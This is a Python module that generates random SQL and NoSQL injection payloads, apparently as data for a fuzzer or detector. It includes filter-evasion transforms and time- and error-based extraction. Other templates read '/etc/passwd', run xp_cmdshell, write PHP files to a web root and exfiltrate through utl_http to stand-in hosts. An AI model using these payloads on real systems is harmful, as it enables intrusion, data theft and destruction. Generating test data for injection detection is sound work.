"""SQL injections: how a value is left, what is put in its place, and how the rest of the query is dropped."""

import re

from .draw import COLUMNS, TABLES, WORDS, Draw, Make, any_case

FUNCTIONS = (
    "abs acos ascii asin atan avg benchmark bin bit_length cast ceil char char_length charindex chr coalesce compress "
    "concat concat_ws convert cos count curdate current_date current_user database datediff date_add day db_name decode "
    "elt exp export_set extractvalue field find_in_set floor format from_base64 from_unixtime geometrycollection glob "
    "greatest group_concat hex hour if ifnull iif instr isnull json_extract json_keys json_valid last_insert_id lcase "
    "left length like likely ln load_file locate log lower lpad ltrim make_set max md5 mid min minute mod month name_const "
    "now nullif oct ord patindex pg_sleep pi position pow quote quotename radians rand randomblob regexp_like repeat "
    "replace reverse right round row_count rpad rtrim schema sha1 sign sin sleep soundex space sqlite_version sqrt "
    "stddev strcmp string_agg substr substring sum sysdate system_user tan to_base64 to_char trim truncate typeof "
    "ucase uncompress unhex unicode unlikely updatexml upper user utl_inaddr uuid variance version week xmltype year "
    "zeroblob overlay unistr translate total likelihood printf changes nvl"
).split()
CATALOGUE = (
    "information_schema information_schema.tables information_schema.columns information_schema.schemata pg_catalog "
    "pg_tables pg_shadow pg_user sqlite_master sqlite_schema sysobjects syscolumns sys.databases sys.tables mysql.user "
    "master..sysdatabases msysobjects all_tables all_users user_tab_columns dba_users v$version "
    "performance_schema.threads tempdb msdb master.dbo"
).split()
REACHING = "xp_cmdshell xp_dirtree xp_regread xp_fileexist sp_oacreate utl_http utl_file openrowset opendatasource pg_sleep".split()
CAST = "int text numeric date bool jsonb bigint varchar float8"


def literal(draw: Draw) -> str:
    word = draw.choice(WORDS)
    return draw.of(draw.number(), f"'{word[:3]}'", f'"{word[:2]}"', f"0x{word.encode().hex()[:8]}", f"'{draw.number(9)}'", "''")


def column(draw: Draw) -> str:
    name, table = draw.choice(COLUMNS), draw.choice(TABLES)
    return draw.of(name, name, f"`{name}`", f"{table}.{name}", f"[{name}]", f'"{name}"')


def call(draw: Draw) -> str:
    return f"{draw.choice(FUNCTIONS)}{draw.of('', '', ' ')}({draw.listed(lambda d: d.of(column(d), literal(d)), 3)})"


def about(draw: Draw) -> str:
    return draw.word(
        "version() user() database() @@version current_user @@hostname sqlite_version() db_name() schema() @@datadir "
        "system_user session_user banner @@global.tmpdir current_database() suser_sname() inet_server_addr()"
    )


def table(draw: Draw) -> str:
    return draw.of(draw.choice(TABLES), draw.choice(CATALOGUE), f"`{draw.choice(TABLES)}`")


def query(draw: Draw) -> str:
    what = draw.listed(lambda d: d.of(column(d), about(d), call(d), "*", "null", "count(*)"), 3)
    rest = draw.of("", "", f" where {truth(draw)}", f" limit {draw.number(9)},1", " limit 1", f" order by {draw.number(9)}")
    return f"select {draw.of('', '', 'distinct ', 'all ')}{what} from {table(draw)}{rest}"


def json_test(draw: Draw) -> str:
    document = draw.of('{"k":1}', '{"a":{"b":[1,2]}}', '["x","y"]', '{"n":"v","m":2}')
    path = draw.of("'$.k'", "'{a,b}'", "'k'", "array['n','m']", "'$.a.b[0]'", "'{a,0}'", "'x'")
    sign = draw.of("->", "->>", "@>", "<@", "#>", "#>>", "?", "?|", "?&", "#-", "@?", "@@", ">", "<")
    kind = draw.of("::jsonb", "::json", "")
    right = draw.of(path, f"'{document}'{kind}")
    calls = f"json_extract('{document}','$.k') = {draw.number(9)}", f"json_value('{document}','$.n') = 'v'", f"isjson('{document}')=1"
    return draw.of(f"'{document}'{kind} {sign} {right}", f"'{document}'{kind} {sign} {right}", *calls)


def truth(draw: Draw) -> str:
    """What is so, or is to be found out."""
    same = literal(draw)
    sign = draw.word("= = = <=> != <> > < >= <= like rlike regexp glob is ==")
    gap = draw.of("", "", " ", "\t")
    match draw.randrange(14):
        case 0 | 1:
            return f"{same}{gap or ' ' * sign.isalpha()}{sign}{gap or ' ' * sign.isalpha()}{same}"
        case 2:
            return f"{literal(draw)} {sign} {literal(draw)}"
        case 3:
            return f"{column(draw)} {draw.of('is not null', 'is null', 'is not ?', 'not in (0)', 'notnull', 'isnull')}"
        case 4:
            return f"{column(draw)} {sign} {column(draw)}"
        case 5:
            return draw.of("true", "not false", "1", "not 0", "!0", "~0", "1-0", "pi()", "'a'", "2>1", "@@version is not null")
        case 6:
            return f"exists({query(draw)})"
        case 7:
            return call(draw)
        case 8:
            return f"{draw.word('ascii ord hex unicode')}({draw.word('substr mid substring')}(({query(draw)}),{draw.number(9)},1)){sign} {draw.number(128)}"
        case 9:
            low = draw.randint(1, 9)
            return f"{low + 1} between {low} and {low + 5}"
        case 10:
            return f"{draw.number(9)} in ({draw.listed(literal, 3)})"
        case 11:
            return json_test(draw)
        case 12:
            return f"({query(draw)}){sign}{literal(draw)}"
        case _:
            return f"{draw.of(column(draw), call(draw), about(draw))}::{draw.word(CAST)}"


def wait(draw: Draw) -> str:
    time = draw.number(30)
    slow = draw.of(
        f"sleep({time})",
        f"pg_sleep({time})",
        f"benchmark({draw.number(9)}000000,{draw.word('md5 sha1 encode')}({literal(draw)}))",
        f"dbms_pipe.receive_message({literal(draw)},{time})",
        f"randomblob({time}00000000)",
        f"(select count(*) from {draw.choice(TABLES)} a, {draw.choice(TABLES)} b, {draw.choice(TABLES)} c)",
        f"sleep ( {time} )",
    )
    return draw.of(
        slow,
        f"(select {slow})",
        f"(select*from(select({slow}))x)",
        f"if({truth(draw)},{slow},0)",
        f"case when {truth(draw)} then {slow} else 0 end",
        f"iif({truth(draw)}, {slow}, 1)",
        f"waitfor delay '0:0:{time}'",
    )


def fault(draw: Draw) -> str:
    asked = draw.of(about(draw), f"({query(draw)})")
    return draw.of(
        f"extractvalue({draw.number(9)},concat(0x7e,{asked}))",
        f"updatexml(1,concat(0x3a,{asked}),1)",
        f"convert(int,{asked})",
        f"cast({asked} as {draw.word('int numeric signed decimal')})",
        f"exp(~(select*from(select {asked})x))",
        f"gtid_subset({asked},{draw.number()})",
        f"(select count(*),concat({asked},floor(rand(0)*2))x from information_schema.tables group by x)",
        f"utl_inaddr.get_host_address({asked})",
        f"ctxsys.drithsx.sn(1,{asked})",
        f"xmltype(chr(60)||chr(58)||{asked}||chr(62))",
        f"json_keys((select convert(({asked}) using utf8)))",
    )


def reach(draw: Draw) -> str:
    word = draw.choice(WORDS)
    return draw.of(
        f"load_file('{draw.of('/etc/passwd', 'c:/boot.ini', chr(92) * 2 + word + '.invalid' + chr(92) + 'a')}')",
        f"utl_http.request('http://{word}.invalid/'||{about(draw)})",
        f"dblink('host={word}.invalid','{query(draw)}')",
        f"lo_import('/etc/{word}')",
        f"openrowset('sqloledb','{word}';'sa';'','{query(draw)}')",
        f"load_extension('{word}')",
        f"httpuritype('http://{word}.invalid').getclob()",
    )


def statement(draw: Draw) -> str:
    name, target, word = draw.choice(COLUMNS), draw.choice(TABLES), draw.choice(WORDS)
    return draw.of(
        f"drop {draw.word('table database view user index')} {draw.of('', 'if exists ')}{target}",
        f"insert into {target} ({name}) values ({draw.listed(literal, 3)})",
        f"insert into {target} values({draw.listed(literal, 3)})",
        f"update {target} set {name}={literal(draw)}{draw.of('', f' where {truth(draw)}')}",
        f"delete from {target}{draw.of('', f' where {truth(draw)}')}",
        f"truncate table {target}",
        f"alter table {target} {draw.of('drop', 'add', 'modify')} {name} {draw.of('', 'text', 'varchar(9)')}",
        f"create {draw.word('table user view trigger function procedure')} {word}{draw.of('', f' ({name} text)')}",
        f"exec {draw.of('', 'master..', 'master.dbo.')}{draw.word('xp_cmdshell xp_dirtree sp_executesql xp_regread')} '{word}'",
        f"execute immediate {literal(draw)}",
        f"declare @{word[0]} varchar({draw.number(999)}) set @{word[0]}={literal(draw)} exec(@{word[0]})",
        f"declare @{word[:2]} int;select @{word[:2]}={draw.number()}",
        f"set @{word}={literal(draw)};prepare {word[:2]} from @{word};execute {word[:2]}",
        f"copy {target} {draw.of('to', 'from')} program '{word}'",
        f"grant all on {target} to {word}",
        "shutdown",
        f"call {word}()",
        f"replace into {target}({name}) values({literal(draw)})",
        f"rename table {target} to {word}",
        f"attach database '{word}.php' as {word[:2]}",
        f"begin {word}; end",
        f"do {wait(draw)}",
        query(draw),
        f"select {wait(draw)}",
    )


def union(draw: Draw) -> str:
    what = draw.listed(lambda d: d.of("null", d.number(9), about(d), column(d), call(d), literal(d)), 7)
    source = draw.of("", "", f" from {table(draw)}", f" from {table(draw)} where {truth(draw)}", " from dual")
    word = draw.of("union", "union", "union all", "union distinct", "union/*!50000all*/", "except", "intersect")
    return draw.of(f"{word} select {what}{source}", f"{word} select {what}{source}", f"{word}(select {what}{source})", f"{word} values({what})")


def joined(draw: Draw) -> str:
    word = draw.word("or or or and and && || xor having where div mod") + draw.of("", "", "", " not")
    return f"{word} {draw.made((truth, truth, truth, wait, fault, reach))}"


def arithmetic(draw: Draw) -> str:
    """A value worked into the query's own: added to it, or joined to its text."""
    inner = draw.made((wait, fault, call, reach, about))
    inner = draw.of(inner, f"({query(draw)})", f"({inner})")
    return f"{draw.word('+ - * / % ^ | || && & << >> div')} {inner}"


def clause(draw: Draw) -> str:
    name, number = draw.choice(COLUMNS), draw.number(20)
    return draw.of(
        f"order by {number}",
        f"group by {name} having {truth(draw)}",
        f"group by {draw.listed(column, 3)}",
        f"having {truth(draw)}",
        f"limit {number} offset {number}",
        f"limit 0,1 into @{name}",
        f"procedure analyse({fault(draw)},1)",
        f"into outfile '/var/www/{name}.php'",
        f"into dumpfile '/tmp/{name}'",
        f"order by (case when {truth(draw)} then 1 else 2 end)",
        f"collate {draw.of('nocase', '`utf8_bin`', 'binary')}",
        f"in (select {name} from {table(draw)})",
        f"as {name} from {table(draw)}",
        f"{number}.e({name})",
        f"{draw.word('like rlike regexp glob ilike')} {literal(draw)}",
        f"for update of {name}",
        f"window w as (order by {name})",
    )


TOKENS = re.compile(r"\w+|'[^']*'|\"[^\"]*\"|`[^`]*`|[^\w\s]| +")
TELLING = re.compile(
    r"\b(select|union|from|where|and|or|xor|insert|update|delete|drop|alter|exec|execute|declare|having|case|when|then|in|"
    r"like|rlike|regexp|glob|procedure|set|copy|values|as|is|not|between|order|group|limit)\b",
    re.IGNORECASE,
)


def fragment(draw: Draw) -> str:
    """What one of several values has of an injection that is put together of them, or that probes for what is let pass."""
    if draw.random() < 0.4:
        function = draw.choice(FUNCTIONS)
        function = draw.of(function, function, function.upper(), function.capitalize(), any_case(draw, function))
        return f"{function}{draw.of('', '', '', ' ', '  ')}("
    if draw.random() < 0.12:
        return draw.of(draw.choice(CATALOGUE), draw.choice(REACHING), f"@@{draw.word('version hostname datadir basedir')}")
    while True:
        tokens = TOKENS.findall(draw.made((statement, query, joined, clause, union, query, joined)))
        start = draw.randrange(max(1, len(tokens) - 3))
        piece = "".join(tokens[start : start + draw.randint(4, 12)]).strip()
        signs = sum(not letter.isalnum() and letter not in " _." for letter in piece)
        if signs and len(piece) > 5 and TELLING.search(piece):
            return draw.of(piece, piece, piece.upper(), any_case(draw, piece))


CLOSINGS = (*"''''''\"\"`)", "')", "'))", '")', "\\'", "%27", "’", "';", "' ", "'/**/", "'\t", "'%0a", "'||'", "') ", "';%00")
ENDINGS = ("--", "-- ", "-- -", "--+", "#", ";--", ";", "/*", ";#", ";%00", "`", "", "", "--a", ")--", "-- a", "//", "%23")
INSIDE: tuple[Make, ...] = (joined, joined, joined, joined, union, union, clause, arithmetic, arithmetic)


def disguised(draw: Draw, text: str) -> str:
    """The text as filters miss it, now and then."""
    match draw.randrange(14):
        case 0:
            return any_case(draw, text)
        case 1 | 2:
            return text.replace(" ", draw.of("/**/", "/*x*/", "+", "%20", "\n", "\t", "%0a", "\x0b", "\x0c", "%a0", "%09", "/*!*/"))
        case 3:
            return text.upper()
        case 4:
            return text.replace("select", "/*!50000select*/").replace("union", "/*!union*/")
        case 5:
            return text.replace(" ", "/**/", 1)
        case 6:
            return text.replace("or ", "|| ").replace("and ", "&& ")
        case _:
            return text


def quoted(draw: Draw) -> str:
    """Out of a quoted value."""
    before = draw.of("", "", draw.number(), draw.choice(WORDS), f"{draw.choice(WORDS)}@example.com", "-1", "%", "\\")
    inner = disguised(draw, draw.of("", " ", "/**/") + draw.made(INSIDE))
    ending = draw.choice(ENDINGS)
    if draw.random() < 0.2:
        ending = draw.of(" and 'a'='a", ' or "x"="', " || '", "||'", " like '", "'='")
    return before + draw.choice(CLOSINGS) + inner + ending


def bare(draw: Draw) -> str:
    """Where the query has no quotes."""
    before = draw.of("", "", draw.number(999), draw.number(9), "-1", draw.choice(COLUMNS), "1)", "(1)", "null")
    inner = disguised(draw, draw.of(" ", "", " ", "/**/") + draw.made(INSIDE))
    return before + inner + draw.choice(ENDINGS)


def stacked(draw: Draw) -> str:
    before = draw.of("", "1", "'", '"', "x'", "1)", "')", "-1", f"{draw.choice(WORDS)}'")
    return disguised(draw, f"{before};{draw.of('', ' ')}{statement(draw)}{draw.of('', '--', ';--', '#', ';', '-- -')}")


def dropped(draw: Draw) -> str:
    """Only the rest of the query is dropped."""
    before = draw.of(draw.choice(WORDS), "admin", "root", f"{draw.choice(WORDS)}@example.com", draw.number())
    return before + draw.choice(CLOSINGS) + draw.of("--", "-- -", "#", ";--", "/*", " --", ";#", ";", " #", "%23")


def document(draw: Draw) -> str:
    """A query of a document store."""
    name, word, number = draw.choice(COLUMNS), draw.choice(WORDS), draw.number()
    code = draw.of(
        f"this.{name}=='{word}'",
        f"sleep({number}00)",
        f"var d=new Date();while(new Date()-d<{number}000);return true",
        f"(function(){{var t=new Date();do{{}}while(new Date()-t<{number}00)}})()",
        f"return this.{name}.length>0",
        f"this.{name}.match(/^{word[0]}.*/)",
    )
    sign = draw.word("ne gt gte lt lte regex nin in exists not where text expr or and")
    value = draw.of("null", '""', number, f'"^{word[0]}"', "[]", "true")
    return draw.of(
        f'{{"{name}": {{"${sign}": {value}}}}}',
        f'{{"${sign}": "{word}"}}',
        f"{name}[${sign}]={word}",
        f'{{"$where": "{code}"}}',
        f"{word}'; {code}; var a='",
        f"' || {code} || '{word}'=='",
        f"{number}; {code}",
        f'{{"{name}": {{"$func": "{word}"}}}}',
        f"db.{draw.choice(TABLES)}.{draw.word('find drop insert remove mapReduce')}({draw.of('', '{}')})",
    )


FAMILIES: tuple[tuple[Make, int], ...] = (
    (quoted, 330),
    (bare, 190),
    (stacked, 110),
    (dropped, 50),
    (document, 50),
    (fragment, 300),
)
